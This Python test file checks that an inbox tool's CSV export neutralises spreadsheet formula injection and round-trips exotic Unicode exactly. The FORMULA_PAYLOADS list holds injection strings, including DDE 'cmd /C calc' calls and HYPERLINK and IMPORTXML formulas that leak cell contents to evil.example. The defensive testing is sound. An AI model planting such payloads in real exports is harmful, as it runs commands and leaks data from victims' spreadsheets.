"""CSV export under hostile and exotic data: no live formulas, exact round trips, RFC 4180.

Codes are stored through the real repository (as a scan stores them), then exported with
``write_csv`` over the UI's read side and with the real ``guard-inbox export`` command.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest

from conftest import Figures
from guard_inbox.bootstrap.core import Core
from guard_inbox.domain.models import AccountKind, FoundCode, MailMessage, StoredCode
from guard_inbox.services.export import COLUMNS, write_csv

pytestmark = pytest.mark.area("CSV")

BOM = b"\xef\xbb\xbf"
TEXT_MARKER = "'"  # spreadsheets read a cell that starts with an apostrophe as text
TRIGGERS = ("=", "+", "-", "@")
RAW_TRIGGERS = (*TRIGGERS, "\t", "\r", "\n")

# Every payload starts a cell a spreadsheet may evaluate. The last group are legitimate
# codes that merely look like formulas: they must stay copyable.
FORMULA_PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for 20% off")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "Sale;=cmd|' /C calc'!A0;end",  # live where the reader splits on ; (most of Europe)
    "Shop;=2+3;x",
    "20% off,+cmd|' /C calc'!A0",
    "tab\t=1+1\tcell",  # live where the reader splits on TAB
    "＝1+1",  # full-width equals sign (U+FF1D), NFKC '='
    "＋1+1",  # full-width plus
    "－1+1",  # full-width hyphen-minus
    "＠SUM(1+1)",  # full-width commercial at
    "﹦1+1",  # small equals sign (U+FE66)
    " =1+1",
    "   @SUM(1+1)",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    " \t=cmd|' /C calc'!A0",
    "-20OFF",
    "+10EXTRA",
    "@HOME15",
    "=SAVE20",
)

EXOTIC_VALUES: tuple[str, ...] = (
    "🎉 SALE 👍🏽 family 👨‍👩‍👧 flag 🇯🇵",
    "限定クーポン 半額セール 优惠券 쿠폰",
    "خصم ٢٠٪ على كل شيء",
    "\u200fהנחה 20%\u200f",
    "Cafe\u0301 Zu\u0308rich",  # decomposed (NFD): must not be normalised on the way
    "Café Zürich",  # composed (NFC)
    "Z\u0351\u0352\u0353a\u0354\u0355lgo",
    "A\x00B",
    "ctl \x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m \x7f",
    'He said "20% off", then "more"',
    "comma, separated, value",
    "line one\nline two",
    "line one\r\nline two",
    "bare\rcarriage",
    "trailing spaces   ",
    "sep\u2028line\u2029para",
    "\ufeffstarts with a BOM",
    '"',
    '""',
    ",",
    "x" * 900 + "€",
)


def is_live_owasp(cell: str) -> bool:
    """The OWASP rule: the first character is = + - @ TAB or CR."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def piece_is_live(piece: str) -> bool:
    if piece.startswith(TEXT_MARKER):
        return False
    if piece.startswith(RAW_TRIGGERS):
        return True
    folded = unicodedata.normalize("NFKC", piece).lstrip()
    return folded.startswith(TRIGGERS)


def is_live(cell: str) -> bool:
    """Would a spreadsheet opening the CSV evaluate this cell, or any piece of it?

    Excel, LibreOffice and Google Sheets evaluate cells starting with = + - @ (tab and CR too
    in some versions); LibreOffice's import can trim spaces first, and input methods fold
    full-width signs to ASCII. A reader set to split on ; or TAB (most of Europe) sees every
    piece after a , ; or TAB as a cell of its own. A piece starting with the text marker is
    never evaluated. Deliberately conservative.
    """
    return any(piece_is_live(piece) for piece in re.split(r"[,;\t]", cell)) or piece_is_live(cell)


def flattened(value: str) -> str:
    """What export promises to keep of a value: CR, LF and TAB become spaces (one cell, one line)."""
    return re.sub(r"\r\n|[\r\n\t]", " ", value)


def copyable(cell: str) -> str:
    """What a user gets back from a cell by deleting the text markers export may add."""
    return re.sub(r"(^|[,;])'(?=\s*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b"
                  r"\u207a\u207c\u208a\u208c\ufb29])", r"\1", cell)


def parse_rfc4180(raw: bytes) -> list[list[str]]:
    """A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes).

    Stricter than the csv module on purpose: a bare LF or CR outside quotes, a quote inside an
    unquoted field or a missing final CRLF fails the test.
    """
    assert raw.startswith(BOM), "Excel needs the UTF-8 BOM to read non-ASCII correctly"
    text = raw[len(BOM):].decode("utf-8")
    records: list[list[str]] = []
    fields: list[str] = []
    i, n = 0, len(text)
    while i < n:
        if text[i] == '"':
            i += 1
            value: list[str] = []
            while True:
                assert i < n, "unterminated quoted field"
                if text[i] == '"':
                    if i + 1 < n and text[i + 1] == '"':
                        value.append('"')
                        i += 2
                        continue
                    i += 1
                    break
                value.append(text[i])
                i += 1
            fields.append("".join(value))
        else:
            start = i
            while i < n and text[i] not in ',\r\n"':
                i += 1
            assert i >= n or text[i] != '"', f"quote inside an unquoted field at {i}"
            fields.append(text[start:i])
        assert i < n, "the last record must end with CRLF"
        if text[i] == ",":
            i += 1
            continue
        assert text.startswith("\r\n", i), f"record separator is not CRLF at {i}: {text[i:i + 2]!r}"
        records.append(fields)
        fields = []
        i += 2
    assert not fields
    return records


def store(core: Core, rows: Sequence[tuple[MailMessage, FoundCode]]) -> None:
    """Through the same repository call a scan's checkpoint uses."""
    account = core.repository.add_account(AccountKind.MBOX, "/mail/hostile.mbox", "hostile")
    job = core.job_repository.create(account.id, 1, "manual")
    for start in range(0, len(rows), 50):
        chunk = [(m, [c]) for m, c in rows[start:start + 50]]
        core.repository.record_scan_results(account.id, job.id, chunk)


def text_cells(code: StoredCode) -> dict[str, str]:
    return {
        "code": code.code, "merchant": code.merchant, "discount": code.discount,
        "subject": code.subject, "sender": code.sender, "message id": code.message_id,
    }


def export_both_ways(core: Core, data_dir: Path, out: Path) -> tuple[bytes, bytes]:
    """``write_csv`` over the UI's query, and the ``guard-inbox export`` command."""
    direct = out / "direct.csv"
    count = write_csv(core.queries.codes(), direct)
    assert count == core.queries.code_count()
    via_cli = out / "cli.csv"
    env = {k: v for k, v in os.environ.items() if k not in ("REDIS_URL", "DATABASE_URL")}
    done = subprocess.run(
        [sys.executable, "-m", "guard_inbox", "--data-dir", str(data_dir), "export", str(via_cli)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )
    assert done.returncode == 0, done.stderr
    assert f"Exported {count} codes" in done.stdout
    return direct.read_bytes(), via_cli.read_bytes()


def by_message_id(records: list[list[str]]) -> Iterator[tuple[str, dict[str, str]]]:
    assert tuple(records[0]) == COLUMNS
    for record in records[1:]:
        assert len(record) == len(COLUMNS), record
        cells = dict(zip(COLUMNS, record, strict=True))
        yield copyable(cells["message id"]), cells


def test_no_exported_cell_is_a_live_formula(
    core: Core, data_dir: Path, tmp_path: Path, figures: Figures
) -> None:
    when = datetime(2026, 3, 1, 12, tzinfo=UTC)
    rows: list[tuple[MailMessage, FoundCode]] = []
    for i, payload in enumerate(FORMULA_PAYLOADS):
        suffix = f"{i:02d}"
        message = MailMessage(
            provider_id=f"{payload}<m{suffix}@hostile.example>", subject=f"{payload} subject {suffix}",
            sender=f"{payload} <s{suffix}@hostile.example>", date=when,
        )
        code = FoundCode(code=f"{payload}C{suffix}", merchant=f"{payload} shop {suffix}",
                         discount=f"{payload} off {suffix}", expires=when)
        rows.append((message, code))
    # Whole-payload codes too: "-20OFF" exactly as the mail printed it.
    for i, payload in enumerate(FORMULA_PAYLOADS):
        message = MailMessage(provider_id=f"<exact{i:02d}@hostile.example>", subject="exact", date=when)
        rows.append((message, FoundCode(code=payload, merchant=f"Exact {i:02d}")))
    store(core, rows)
    stored = {flattened(c.message_id): c for c in core.queries.codes()}
    assert len(stored) == len(rows)

    direct, via_cli = export_both_ways(core, data_dir, tmp_path / "out")
    assert direct == via_cli, "the CLI and the app must write the same file"
    records = parse_rfc4180(direct)

    checked = live = owasp_live = wrong_code = 0
    live_examples: list[str] = []
    mangled: list[str] = []
    for message_id, cells in by_message_id(records):
        original = text_cells(stored[message_id])
        for column, cell in cells.items():
            checked += 1
            owasp_live += is_live_owasp(cell)
            if is_live(cell):
                live += 1
                live_examples.append(f"{column}={cell!r}")
            if column in original and copyable(cell) != flattened(original[column]):
                wrong_code += 1
                mangled.append(f"{column}: {original[column]!r} -> {cell!r}")
    checked += len(records[0])
    live += sum(is_live(c) for c in records[0])

    figures.record("cells checked", checked)
    figures.record("cells live (OWASP leads = + - @ TAB CR)", owasp_live, "0")
    figures.record("cells live (after whitespace, full-width folding, or split on , ; TAB)", live, "0")
    figures.record("cells not recoverable by dropping the text markers", wrong_code, "0")
    assert owasp_live == 0
    assert live == 0, f"{live} of {checked} cells a spreadsheet would evaluate: {live_examples[:12]}"
    assert wrong_code == 0, mangled[:10]


def test_legit_codes_that_look_like_formulas_stay_copyable(
    core: Core, data_dir: Path, tmp_path: Path, figures: Figures
) -> None:
    """"-20OFF" gains exactly one leading apostrophe, which is the whole change."""
    legit = ("-20OFF", "+10EXTRA", "@HOME15", "=SAVE20", "SAVE-20", "20-OFF", "A=B", "'QUOTED")
    when = datetime(2026, 3, 1, tzinfo=UTC)
    store(core, [
        (MailMessage(provider_id=f"<legit{i}@shop.example>", subject="Your code", date=when),
         FoundCode(code=code, merchant=f"Shop {i}"))
        for i, code in enumerate(legit)
    ])
    direct, _ = export_both_ways(core, data_dir, tmp_path / "out")
    cells = {copyable(c["message id"]): c["code"] for _, c in by_message_id(parse_rfc4180(direct))}
    exported = {cells[f"<legit{i}@shop.example>"]: code for i, code in enumerate(legit)}
    changes = {code: cell for cell, code in exported.items() if cell != code}
    figures.record("legit codes changed by export", ", ".join(
        f"{code} -> {cell}" for code, cell in changes.items()) or "none")
    assert set(changes) == {"-20OFF", "+10EXTRA", "@HOME15", "=SAVE20"}
    for code, cell in changes.items():
        assert cell == TEXT_MARKER + code  # one visible apostrophe, nothing else touched
        assert copyable(cell) == code
    assert exported["'QUOTED"] == "'QUOTED"  # a real leading apostrophe is kept as is


def test_non_ascii_and_control_characters_round_trip(
    core: Core, data_dir: Path, tmp_path: Path, figures: Figures
) -> None:
    when = datetime(2026, 5, 17, 8, 30, tzinfo=UTC)
    rows: list[tuple[MailMessage, FoundCode]] = []
    for i, value in enumerate(EXOTIC_VALUES):
        message = MailMessage(provider_id=f"<x{i:02d}-{value}@intl.example>", subject=value,
                              sender=f"{value} <x{i:02d}@intl.example>", date=when)
        rows.append((message, FoundCode(code=f"{value}#{i:02d}", merchant=f"{value} {i:02d}",
                                        discount=value, expires=when)))
    store(core, rows)
    stored = {flattened(c.message_id): c for c in core.queries.codes()}
    assert len(stored) == len(rows)

    direct, via_cli = export_both_ways(core, data_dir, tmp_path / "out")
    assert direct == via_cli
    assert direct.startswith(BOM) and not direct.startswith(BOM * 2)
    records = parse_rfc4180(direct)
    assert len(records) == len(rows) + 1

    checked = mismatches = 0
    bad: list[str] = []
    for message_id, cells in by_message_id(records):
        code = stored.get(message_id)
        assert code is not None, f"message id {message_id!r} did not survive the trip"
        for column, original in text_cells(code).items():
            checked += 1
            if copyable(cells[column]) != flattened(original):
                mismatches += 1
                bad.append(f"{column}: {original!r} -> {cells[column]!r}")
        assert cells["expires"] == "2026-05-17T08:30:00+00:00"
        # The stored value itself matches what the scan handed over (SQLite kept NULs etc.).
    sent = {flattened(m.provider_id): (m, c) for m, c in rows}
    storage_losses = [
        mid for mid, code in stored.items()
        if (code.code, code.merchant, code.subject) != (sent[mid][1].code, sent[mid][1].merchant,
                                                       sent[mid][0].subject)
    ]
    figures.record("round-trip cells checked", checked)
    figures.record("round-trip mismatches", mismatches + len(storage_losses), "0")
    assert not storage_losses, storage_losses[:5]
    assert mismatches == 0, bad[:10]
